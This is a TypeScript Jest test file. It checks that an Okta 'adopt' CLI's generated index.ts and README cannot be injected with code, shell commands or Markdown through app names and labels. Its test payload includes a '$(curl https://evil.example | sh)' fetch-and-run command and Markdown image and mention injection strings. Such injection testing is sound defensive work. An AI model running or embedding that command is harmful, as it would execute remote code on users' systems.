/**
 * adopt writes what Okta reports — app labels, app names, a bookmark app's id, setting names — into a program and a
 * README people run and copy from. Whoever controls those strings (an admin of the org, anyone who can create an
 * app, a proxy) must not be able to add code to index.ts, a command to the README's shell blocks, or links, images
 * and mentions to its Markdown, nor names that are not identifiers.
 */
import * as ts from "typescript";
import { classifyConnection, configValues } from "../../../cli/adopt/classify";
import { renderIndex } from "../../../cli/adopt/codegen";
import type { AdoptedApp, OrgScan } from "../../../cli/adopt/model";
import { deriveNames } from "../../../cli/adopt/names";
import { renderReadme } from "../../../cli/adopt/readme";

const PAYLOAD = "\ninjected(); $(curl https://evil.example | sh)\n";
const NAME = `custom_app${PAYLOAD}// `;
const LABEL = `Evil\u2028injected();\r\n# ![x](https://evil.example/x.png) @acme/admins`;
const BOOKMARK_ID = `0oaBookmark${PAYLOAD}`;

function app(): AdoptedApp {
  const decision = classifyConnection(NAME, { status: "ENABLED", profile: { authScheme: "TOKEN" } }, false);
  if (!("adopt" in decision)) throw new Error(decision.skip);
  // "a-1" and "a1" are two resources but one camelCase word: the second variable takes a suffix from its id.
  const names = deriveNames([
    { id: "0oa00000000000000001", name: NAME, label: "a-1" },
    { id: BOOKMARK_ID, name: "bookmark", label: "a1" },
  ]);
  const variable = names.get(BOOKMARK_ID)!.variable;
  return {
    app: { id: "0oa00000000000000002", name: NAME, label: LABEL },
    names: { resource: names.get(BOOKMARK_ID)!.resource, variable },
    connection: decision.adopt,
    features: [{ name: "USER_PROVISIONING", capabilities: {}, leftOut: [`create.x${PAYLOAD}`] }],
    config: configValues(variable, NAME, LABEL, decision.adopt),
  };
}

const SCAN: OrgScan = {
  orgUrl: "https://acme.okta.com",
  scanned: 2,
  adopted: [app()],
  skipped: [{ app: { id: BOOKMARK_ID, name: `bookmark${PAYLOAD}`, label: LABEL }, reason: "a bookmark app" }],
};

describe("adopt and untrusted text from Okta", () => {
  it("writes an index.ts where none of it is code", () => {
    const source = renderIndex(SCAN, "okta-provisioning adopt");
    const out = ts.transpileModule(source, { reportDiagnostics: true, compilerOptions: { strict: true } });
    // Messages only: a diagnostic object holds the whole syntax tree, too big for jest to print.
    expect((out.diagnostics ?? []).map((d) => ts.flattenDiagnosticMessageText(d.messageText, "\n"))).toEqual(
      [],
    );
    // Comments and string literals hold the payload; no identifier or call of it exists.
    const file = ts.createSourceFile("index.ts", source, ts.ScriptTarget.Latest, true);
    const identifiers: string[] = [];
    const walk = (node: ts.Node) => {
      if (ts.isIdentifier(node)) identifiers.push(node.text);
      ts.forEachChild(node, walk);
    };
    walk(file);
    expect(identifiers).not.toContain("injected");
    expect(identifiers.filter((i) => !/^[A-Za-z0-9_]+$/.test(i))).toEqual([]);
  });

  it("writes a README whose shell blocks run only the commands adopt wrote", () => {
    const readme = renderReadme(SCAN, "acme-provisioning", "okta-provisioning adopt");
    const blocks = [...readme.matchAll(/```sh\n([\s\S]*?)```/g)].map((m) => m[1]);
    expect(blocks.length).toBeGreaterThan(0);
    for (const line of blocks.join("").split("\n").filter(Boolean))
      expect(line).toMatch(/^(#|npm install$|pulumi (stack init|config set|preview|up)\b)/);
    expect(readme).not.toMatch(/^\s*injected\(\)/m);
    expect(readme).not.toMatch(/^[^#\n`|]*\$\(curl/m);
  });

  it("adds no heading, image, link or mention to the README's Markdown, and no line break to a table row", () => {
    const readme = renderReadme(SCAN, "acme-provisioning", "okta-provisioning adopt");
    const outside = readme.replace(/```sh\n[\s\S]*?```/g, "");
    expect(outside).not.toMatch(/!\[[^\]]*\]\(/);
    expect(outside.split("\n").filter((l) => l.startsWith("#"))).toEqual(
      outside
        .split("\n")
        .filter((l) => /^#{1,2} (acme-provisioning|\d\. |What was adopted|Skipped|Settings)/.test(l)),
    );
    for (const m of outside.matchAll(/(^|[^A-Za-z0-9_])@(.{0,7})/g)) expect(m[2]).toMatch(/^&#8203;/);
    // Every table row is whole: it ends its own line, and no payload line stands between rows.
    for (const row of outside.split("\n").filter((l) => l.startsWith("|"))) expect(row).toMatch(/ \|$/);
    expect(outside).not.toMatch(/^(injected|\$\(curl|\/\/)/m);
  });
});
